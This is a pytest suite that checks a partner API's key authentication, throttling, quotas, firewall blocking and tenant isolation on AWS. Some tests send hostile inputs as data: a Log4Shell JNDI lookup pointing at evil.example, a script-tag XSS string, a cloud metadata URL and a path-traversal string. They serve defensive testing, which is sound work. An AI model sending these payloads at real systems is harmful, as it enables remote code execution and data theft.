"""Who may call the partner API, how fast, how often, and what the firewall makes of it."""

import json
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress

import pytest

from tests.deployment import Deployment
from tests.partner import PartnerApi, eventually

METHODS = [
    ("GET", "/"),
    ("GET", "/health"),
    ("GET", "/items"),
    ("POST", "/items"),
    ("GET", "/items/mug"),
    ("PUT", "/items/mug"),
    ("DELETE", "/items/mug"),
]


@pytest.mark.parametrize(("method", "path"), METHODS)
@pytest.mark.parametrize("key", [None, "wrong", "{}x"])
def test_without_the_key_nothing_is_answered(
    partner: PartnerApi, method: str, path: str, key: str | None
) -> None:
    given = key and key.format(partner.key)

    answer = partner.call(method, path, item={} if method in ("POST", "PUT") else None, key=given)

    assert answer.status == 403
    assert answer.error == {"code": "forbidden", "message": "send a valid key as x-api-key"}
    assert answer.body["request_id"] == answer.headers["x-request-id"]


@pytest.mark.parametrize(
    ("method", "path"),
    [("PATCH", "/items/mug"), ("PUT", "/"), ("GET", "/item"), ("GET", "/items/mug/parts")],
)
def test_there_is_nothing_besides_the_methods_described(
    partner: PartnerApi, method: str, path: str
) -> None:
    answer = partner.call(method, path)

    assert (answer.status, answer.error["code"]) == (404, "not_found")


def test_above_the_burst_of_its_plan_a_key_is_throttled_and_then_served_again(
    partner: PartnerApi,
) -> None:
    with partner.another_key(throttle={"rateLimit": 1, "burstLimit": 5}) as key:
        served = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 403)
        with ThreadPoolExecutor(16) as clients:
            answers = list(clients.map(lambda _: partner.call("GET", "/", key=key), range(40)))
        recovered = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 429)

    refused = [answer for answer in answers if answer.status == 429]
    assert served.status == recovered.status == 200
    assert Counter(answer.status for answer in answers).keys() == {200, 429}
    assert len(refused) >= 25
    assert refused[0].error["code"] == "too_many_requests"
    assert refused[0].headers["retry-after"] == "1"


def test_a_throttled_key_takes_nothing_from_another(partner: PartnerApi) -> None:
    with partner.another_key(throttle={"rateLimit": 1, "burstLimit": 1}) as key:
        eventually(lambda: partner.call("GET", "/", key=key).status, lambda status: status == 429)

        assert partner.call("GET", "/").status == 200


def test_when_the_quota_of_its_plan_is_used_up_a_key_is_refused(partner: PartnerApi) -> None:
    with partner.another_key(quota={"limit": 3, "period": "DAY"}) as key:
        first = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 403)
        last = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status == 429)

    assert first.status == 200
    assert last.error == {"code": "quota_exceeded", "message": "the quota of the day is used up"}


def test_a_disabled_key_is_refused(partner: PartnerApi, deployment: Deployment) -> None:
    gateway = deployment.client("apigateway")
    with partner.another_key() as key:
        served = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 403)
        made = gateway.get_api_keys(nameQuery="suite-", includeValues=True)["items"]
        [identity] = [each["id"] for each in made if each["value"] == key]
        off = {"op": "replace", "path": "/enabled", "value": "false"}
        gateway.update_api_key(apiKey=identity, patchOperations=[off])

        refused = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 200)

    assert (served.status, refused.status) == (200, 403)


def test_an_address_above_the_firewalls_rate_is_blocked_and_then_served_again(
    partner: PartnerApi,
) -> None:
    with partner.rate_rule(limit=10, seconds=60):
        blocked = eventually(lambda: partner.call("GET", "/"), lambda a: a.status != 200)
    served = eventually(lambda: partner.call("GET", "/"), lambda a: a.status == 200)

    assert (blocked.status, blocked.error["code"]) == (403, "request_blocked")
    assert served.status == 200


@pytest.mark.embedded
def test_what_the_firewall_blocked_is_shown(partner: PartnerApi, deployment: Deployment) -> None:
    """Here our approximation of AWS's group blocks; that AWS's own does, only AWS shows."""
    before = time.time()
    partner.call("GET", "/items?cursor=%24%7Bjndi:ldap://evil.example/a%7D")

    def samples() -> list[object]:
        shown = json.loads(deployment.tap("status", "--json").stdout)["web_acls"]
        [firewall] = [each for each in shown if each["web_acl"] in partner.outputs["WAFWebAclArn"]]
        return [
            (sample["action"], sample["rule"].rpartition(":")[2])
            for sample in firewall["samples"]
            if sample["time"] > before and sample["action"] == "BLOCK"
        ]

    assert eventually(samples, bool) == [("BLOCK", "Log4JRCE_QUERYARGUMENTS")]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "http://169.254.169.254/latest",
        "../../etc/passwd",
        "x" * 20_000,
    ],
)
def test_items_are_data_whatever_they_look_like(partner: PartnerApi, text: str) -> None:
    created = partner.call("POST", "/items", item={"text": text}).data["item"]

    assert created["text"] == text
    assert partner.call("DELETE", f"/items/{created['id']}").status == 200


def test_known_bad_input_is_blocked_in_a_body_too(partner: PartnerApi) -> None:
    """Here our approximation of AWS's group blocks; that AWS's own does, only AWS shows."""
    answer = partner.call("POST", "/items", item={"text": "${jndi:ldap://evil.example/a}"})

    assert (answer.status, answer.error["code"]) == (403, "request_blocked")


@pytest.fixture(scope="module")
def second(partner: PartnerApi) -> Iterator[tuple[str, str]]:
    """Id and value of another partner's key."""
    with partner.another_partner() as key:
        yield key


def test_an_item_of_one_partner_is_not_there_for_another(
    partner: PartnerApi, second: tuple[str, str]
) -> None:
    item_id = f"test-{uuid.uuid4()}"
    created = partner.call("POST", "/items", item={"id": item_id, "name": "Mug"})
    path = f"/items/{item_id}"

    answers = [
        partner.call("GET", path, key=second[1]),
        partner.call("PUT", path, item={"name": "Cup"}, key=second[1]),
        partner.call("PUT", path, item={}, key=second[1], headers={"if-match": '"1"'}),
        partner.call("PUT", path, item={}, key=second[1], headers={"if-match": '"7"'}),
        partner.call("DELETE", path, key=second[1]),
    ]

    assert {(each.status, each.error["code"]) for each in answers} == {(404, "item_not_found")}
    assert partner.call("GET", path).data == created.data
    assert partner.call("DELETE", path).status == 200


def test_two_partners_may_use_one_id(partner: PartnerApi, second: tuple[str, str]) -> None:
    item_id = f"test-{uuid.uuid4()}"
    path = f"/items/{item_id}"

    ours = partner.call("POST", "/items", item={"id": item_id, "name": "Mug"})
    theirs = partner.call("POST", "/items", item={"id": item_id, "name": "Cup"}, key=second[1])

    assert (ours.status, theirs.status) == (201, 201)
    assert partner.call("DELETE", path, key=second[1]).data["item"]["name"] == "Cup"
    assert partner.call("DELETE", path).data["item"]["name"] == "Mug"


def test_a_list_holds_ones_own_items_and_its_cursor_opens_no_other(
    partner: PartnerApi, second: tuple[str, str]
) -> None:
    paths: dict[str, set[str]] = {}
    for key in (partner.key, second[1]):
        made = [partner.call("POST", "/items", item={}, key=key) for _ in range(3)]
        paths[key] = {answer.data["item"]["id"] for answer in made}

    listed = {item["id"] for item in _listed(partner, second[1])}
    cursor = partner.call("GET", "/items?limit=1").data["cursor"]
    with_ours = partner.call("GET", f"/items?cursor={cursor}", key=second[1])

    assert listed == paths[second[1]]
    assert paths[partner.key] <= {item["id"] for item in _listed(partner, partner.key)}
    assert (with_ours.status, with_ours.error["code"]) == (400, "invalid_cursor")
    for key, ids in paths.items():
        for item_id in ids:
            assert partner.call("DELETE", f"/items/{item_id}", key=key).status == 200


def test_items_follow_a_rotated_key_as_the_documentation_says(
    partner: PartnerApi, second: tuple[str, str], deployment: Deployment
) -> None:
    dynamodb = deployment.client("dynamodb")
    table = partner.outputs["DynamoDBTableName"]
    with partner.another_partner() as (new_id, new_value):
        made = partner.call("POST", "/items", item={"name": "Mug"}, key=second[1]).data["item"]
        kept = partner.call("POST", "/items", item={"name": "New"}, key=new_value).data["item"]

        for _ in range(2):  # a second run is harmless
            found = dynamodb.query(
                TableName=table,
                KeyConditionExpression="#o = :o",
                ExpressionAttributeNames={"#o": "owner"},
                ExpressionAttributeValues={":o": {"S": second[0]}},
            )["Items"]
            for item in found:
                if item["id"]["S"] == "#placed":
                    continue
                place = f"{item['created_at']['S']} {item['id']['S']}"
                own = {"owner": new_id, "listed_in": f"{new_id}/0", "listed_at": place}
                with suppress(dynamodb.exceptions.ConditionalCheckFailedException):
                    dynamodb.put_item(
                        TableName=table,
                        Item=item | {name: {"S": text} for name, text in own.items()},
                        ConditionExpression="attribute_not_exists(id)",
                    )

        moved = partner.call("GET", f"/items/{made['id']}", key=new_value)
        assert moved.data["item"] == made
        assert {made["id"], kept["id"]} <= {item["id"] for item in _listed(partner, new_value)}
        assert made in _listed(partner, second[1])
        for item_id in (made["id"], kept["id"]):
            assert partner.call("DELETE", f"/items/{item_id}", key=new_value).status == 200
    assert partner.call("DELETE", f"/items/{made['id']}", key=second[1]).status == 200


def _listed(partner: PartnerApi, key: str) -> list[dict[str, object]]:
    """Every item that a key lists."""
    found, cursor = [], ""
    while True:
        page = partner.call("GET", f"/items?limit=2{cursor}", key=key).data
        found += page["items"]
        if page["cursor"] is None:
            return found
        cursor = f"&cursor={page['cursor']}"
